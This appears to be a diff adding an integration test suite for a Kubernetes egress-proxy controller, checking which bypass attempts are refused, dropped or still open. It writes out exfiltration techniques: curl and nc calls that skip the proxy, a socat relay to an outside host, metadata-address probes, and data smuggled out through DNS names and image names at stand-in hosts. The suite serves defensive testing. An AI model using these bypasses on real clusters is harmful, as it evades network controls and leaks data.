@@ -1,0 +1,256 @@
+import { setTimeout as sleep } from 'node:timers/promises';
+import { afterAll, beforeAll, describe, expect, test } from 'vitest';
+import { pod, policy, refusedObjects, service, slice } from './attacks/attempts.ts';
+import { kubectl, must, removeNamespace, ruleSet, startStage, TENANT } from './attacks/stage.ts';
+import { WorldLog } from './attacks/world-log.ts';
+import { bash, type Outcome } from './story/shell.ts';
+import { namespaceManifest } from './story/stage.ts';
+
+/** Enforced; enforced with in-cluster-traffic: deny; a tenant's own, without our label; in observe mode. */
+const [ENFORCED, STRICT, FRESH, WATCHED] = ['bypass', 'bypass-strict', 'bypass-fresh', 'bypass-watched'];
+const OUTSIDE = '203.0.113.10';
+const ALLOWED = 'bypass.example.com';
+const world = new WorldLog();
+
+function exec(where: string, command: string): Promise<Outcome> {
+  const [namespace, name] = where.split('/');
+  return bash(`kubectl exec -n ${namespace} ${name} -- sh -c '${command.replaceAll("'", `'\\''`)}'`);
+}
+
+const DIRECT = `curl --noproxy '*' -s -o /dev/null -m 4 -w '%{http_code}'`;
+
+/** The status of a call that leaves the proxy out; 000 where nothing answered. */
+async function direct(from: string, url: string): Promise<string> {
+  return (await exec(from, `${DIRECT} ${url}`)).stdout;
+}
+
+const podIP = (namespace: string, name: string) =>
+  must(`get pod ${name} -n ${namespace} -o jsonpath='{.status.podIP}'`);
+
+/** In the world's log since `mark`, by a part of its path or server. */
+const arrived = (part: string) =>
+  world.since().filter(({ path, server }) => path.includes(part) || server.includes(part));
+
+beforeAll(async () => {
+  await Promise.all([
+    startStage(ENFORCED, 'enforce'),
+    startStage(FRESH),
+    startStage(WATCHED, 'observe'),
+    startStage(STRICT, 'enforce'),
+  ]);
+  const annotations = { 'egress.zalando.org/in-cluster-traffic': 'deny' };
+  await must('apply -f -', namespaceManifest({ namespace: STRICT, mode: 'enforce', annotations }));
+  const relay = `socat TCP-LISTEN:8080,fork,reuseaddr TCP:${OUTSIDE}:80 & socat TCP-LISTEN:53,fork,reuseaddr TCP:${OUTSIDE}:80`;
+  const pods = [
+    pod(ENFORCED, 'api'),
+    pod(ENFORCED, 'uninjected', {}, {}, { 'egress.zalando.org/inject': 'false' }),
+    pod(ENFORCED, 'host-port', {}, { ports: [{ containerPort: 8080, hostPort: 18080 }] }),
+    pod(STRICT, 'api'),
+    pod(WATCHED, 'api'),
+    pod(FRESH, 'relay', {}, { command: ['sh', '-c', relay] }, { 'k8s-app': 'kube-dns' }),
+    service(FRESH, { ports: [{ name: 'http', port: 80 }] }),
+    slice(FRESH, OUTSIDE),
+  ];
+  await must('apply -f -', { apiVersion: 'v1', kind: 'List', items: pods });
+  for (const namespace of [ENFORCED, STRICT, FRESH, WATCHED]) {
+    await must(`wait -n ${namespace} --for=condition=Ready pod --all --timeout=60s`);
+  }
+  await ruleSet(ENFORCED, 'rules', [`${ALLOWED}:80`, `${ALLOWED}:5432`]);
+});
+
+afterAll(async () => {
+  await kubectl('delete clusterrole,clusterrolebinding bypass-namespaces --ignore-not-found');
+  await Promise.all([ENFORCED, STRICT, FRESH, WATCHED].map(removeNamespace));
+});
+
+describe('refused when it is written', () => {
+  test.each(refusedObjects(ENFORCED).map((one) => [one.name, one] as const))(
+    '%s',
+    async (_, { object, says }) => {
+      const tried = await kubectl(`create -f - ${TENANT}`, object);
+      expect(tried.code, tried.stdout).not.toBe(0);
+      expect(tried.stderr.replaceAll(/\s+/g, ' ')).toContain(says);
+    },
+  );
+
+  test('a Deployment on the host network gets no pods', async () => {
+    const { metadata, spec } = pod(ENFORCED, 'workload', { hostNetwork: true });
+    const labels = metadata.labels;
+    const template = { metadata: { labels }, spec };
+    const deployment = { selector: { matchLabels: labels }, template };
+    await must(`create -f - ${TENANT}`, {
+      apiVersion: 'apps/v1',
+      kind: 'Deployment',
+      metadata,
+      spec: deployment,
+    });
+    const failed = `wait -n ${ENFORCED} deployment/workload --for=condition=ReplicaFailure --timeout=30s`;
+    await must(failed);
+    expect(await must(`get pods -n ${ENFORCED} -l app=workload -o name`)).toBe('');
+  });
+
+  test('our NetworkPolicy cannot be deleted', async () => {
+    const tried = await kubectl(`delete networkpolicy enforce-egress-proxy -n ${ENFORCED} ${TENANT}`);
+    expect(tried.stderr).toContain('is kept by the kube-egress controller');
+  });
+
+  test('the label cannot be taken off, changed, or lost with the namespace', async () => {
+    await must('create clusterrole bypass-namespaces --verb=get,patch,update,delete --resource=namespaces');
+    await must(
+      'create clusterrolebinding bypass-namespaces --clusterrole=bypass-namespaces --user=attack-tenant',
+    );
+    const mode = 'egress.zalando.org/mode';
+    for (const attempt of [
+      `label namespace ${ENFORCED} ${mode}-`,
+      `label namespace ${ENFORCED} ${mode}=observe --overwrite`,
+      `annotate namespace ${ENFORCED} egress.zalando.org/allow-host-network=true`,
+      `delete namespace ${ENFORCED}`,
+    ]) {
+      const tried = await kubectl(`${attempt} ${TENANT}`);
+      expect(tried.stderr, attempt).toContain('needs the verb bypass');
+    }
+  });
+});
+
+describe('dropped', () => {
+  test.each([
+    ['api', 'a pod that leaves the proxy out'],
+    ['uninjected', 'a pod without the variables'],
+    ['host-port', 'a pod with a host port'],
+  ])('%s: %s', async (name) => {
+    world.mark();
+    expect(await direct(`${ENFORCED}/${name}`, `http://${OUTSIDE}/bypass-direct`)).toBe('000');
+    expect(arrived('bypass-direct')).toEqual([]);
+  });
+
+  test('UDP to the world', async () => {
+    world.mark();
+    await exec(`${ENFORCED}/api`, `echo leak | nc -u -w 2 ${OUTSIDE} 5353`);
+    expect(arrived(`${OUTSIDE}:5353`)).toEqual([]);
+  });
+
+  test('the metadata address', async () => {
+    world.mark();
+    expect(await direct(`${ENFORCED}/api`, 'http://169.254.169.254/latest/meta-data')).toBe('000');
+    expect(arrived('169.254.169.254')).toEqual([]);
+  });
+
+  test('a Service of another namespace whose EndpointSlice leads out', async () => {
+    world.mark();
+    const url = `http://leak.${FRESH}.svc.cluster.local/bypass-slice`;
+    expect(await direct(`${ENFORCED}/api`, url)).toBe('000');
+    expect(arrived('bypass-slice')).toEqual([]);
+  });
+
+  test('a policy for ingress opens nothing', async () => {
+    await must(`apply -f - ${TENANT}`, policy(ENFORCED, { policyTypes: ['Ingress'], ingress: [{}] }));
+    expect(await direct(`${ENFORCED}/api`, `http://${OUTSIDE}/`)).toBe('000');
+  });
+
+  test('strict mode: a relay in the cluster, also as kube-dns, and the API server', async () => {
+    const relay = await podIP(FRESH, 'relay');
+    expect(await direct(`${STRICT}/api`, `http://${relay}:8080/`)).toBe('000');
+    expect(await direct(`${STRICT}/api`, `http://${relay}:53/`)).toBe('000');
+    expect(await direct(`${STRICT}/api`, '-k https://kubernetes.default.svc/livez')).toBe('000');
+  });
+});
+
+describe('refused by the proxy', () => {
+  test.each(['private', 'loopback', 'loopback6', 'metadata', 'node', 'nat64'])(
+    'observe mode lifts no guard: %s.example.com',
+    async (name) => {
+      const call = `curl -s -m 15 -o /dev/null -w '%{http_code}' http://${name}.example.com/`;
+      expect((await exec(`${WATCHED}/api`, call)).stdout).toBe('403');
+    },
+  );
+
+  test("observe mode is no relay into the proxy's own pod", async () => {
+    const pods = await must(`get pods -n egress-proxy -l app=squid -o jsonpath='{.items[*].status.podIP}'`);
+    for (const address of ['127.0.0.1', ...pods.trim().split(' ')]) {
+      for (const port of [3128, 8081, 8444]) {
+        const call = `curl -s -m 15 -o /dev/null -p -x $HTTP_PROXY -w '%{http_connect}' --noproxy '' http://${address}:${port}/`;
+        expect((await exec(`${WATCHED}/api`, call)).stdout, `${address}:${port}`).toBe('403');
+      }
+    }
+  });
+
+  test('a name with a public and a private address is dialled at the public one', async () => {
+    world.mark();
+    const call = `curl -s -m 15 -o /dev/null -w '%{http_code}' http://mixed.example.com/bypass-mixed`;
+    expect((await exec(`${WATCHED}/api`, call)).stdout).toBe('200');
+    expect(arrived('bypass-mixed').map(({ server }) => server)).toEqual([`${OUTSIDE}:80`]);
+  });
+});
+
+/** These fail on the day that they are closed: then docs/security.md has a line to change. */
+describe('open', () => {
+  test('a relay in a namespace that is not enforced', async () => {
+    world.mark();
+    const relay = await podIP(FRESH, 'relay');
+    expect(await direct(`${ENFORCED}/api`, `http://${relay}:8080/bypass-relay`)).toBe('200');
+    expect(arrived('bypass-relay')).toHaveLength(1);
+  });
+
+  test('names as data: the DNS of the cluster asks outside for any name', async () => {
+    const asked = await exec(`${ENFORCED}/api`, 'getent hosts c2VjcmV0.evil.test');
+    expect(asked.stdout).toContain('203.0.113.66');
+  });
+
+  test('an image name as data: the node asks the registry that the pod names', async () => {
+    world.mark();
+    const leak = pod(ENFORCED, 'image', {}, { image: '203.0.113.66:5432/c2VjcmV0:1' });
+    await must(`create -f - ${TENANT}`, leak);
+    for (let tries = 0; tries < 100 && arrived('203.0.113.66:5432').length === 0; tries += 1)
+      await sleep(200);
+    await must(`delete pod image -n ${ENFORCED} --wait=false`);
+    expect(arrived('203.0.113.66:5432').length).toBeGreaterThan(0);
+  });
+
+  test('a tunnel outlives its rule', async () => {
+    world.mark();
+    await ruleSet(ENFORCED, 'tunnel', ['tunnel.example.com:5432']);
+    const talk = `(echo before; sleep 8; echo after; sleep 2) | socat - PROXY:squid.egress-proxy:tunnel.example.com:5432,proxyport=3128`;
+    const talking = exec(`${ENFORCED}/api`, talk);
+    for (let tries = 0; tries < 50 && arrived(`${OUTSIDE}:5432`).length === 0; tries += 1) await sleep(100);
+    await must(`delete egressruleset tunnel -n ${ENFORCED}`);
+    expect((await talking).stdout).toBe('before\nafter\n');
+  });
+
+  test('a connection from before the opt-in', async () => {
+    await startStage('bypass-late');
+    await must('apply -f -', pod('bypass-late', 'api'));
+    await must('wait -n bypass-late --for=condition=Ready pod/api --timeout=60s');
+    const talking = exec(
+      'bypass-late/api',
+      `(echo before; sleep 8; echo after; sleep 2) | nc -w 12 ${OUTSIDE} 5432`,
+    );
+    await sleep(1000);
+    await must('label namespace bypass-late egress.zalando.org/mode=enforce');
+    await must('wait -n bypass-late --for=create networkpolicy/enforce-egress-proxy --timeout=20s');
+    expect((await talking).stdout).toBe('before\nafter\n');
+    expect(await direct('bypass-late/api', `http://${OUTSIDE}/`)).toBe('000');
+    await removeNamespace('bypass-late');
+  });
+
+  test("the API server's services/proxy of a namespace that is not enforced", async () => {
+    world.mark();
+    const path = `/api/v1/namespaces/${FRESH}/services/leak:http/proxy/bypass-services-proxy`;
+    await kubectl(`get --raw ${path} ${TENANT}`);
+    expect(arrived('bypass-services-proxy')).toHaveLength(1);
+  });
+
+  test('what a person with exec carries out', async () => {
+    const carried = await kubectl(`exec -n ${ENFORCED} api ${TENANT} -- echo secret`);
+    expect(carried.stdout).toBe('secret\n');
+  });
+});
+
+describe('narrowed', () => {
+  test("the API server's pods/proxy reaches the tenant's own pods alone", async () => {
+    const status = { status: { podIP: OUTSIDE, podIPs: [{ ip: OUTSIDE }] } };
+    const patch = `patch pod api -n ${ENFORCED} --subresource=status --type=merge -p '${JSON.stringify(status)}'`;
+    expect((await kubectl(`${patch} ${TENANT}`)).stderr).toContain('forbidden');
+    const slicePath = `create -f - ${TENANT}`;
+    expect((await kubectl(slicePath, slice(ENFORCED, OUTSIDE))).stderr).toContain('must be those of pods');
+  });
+});
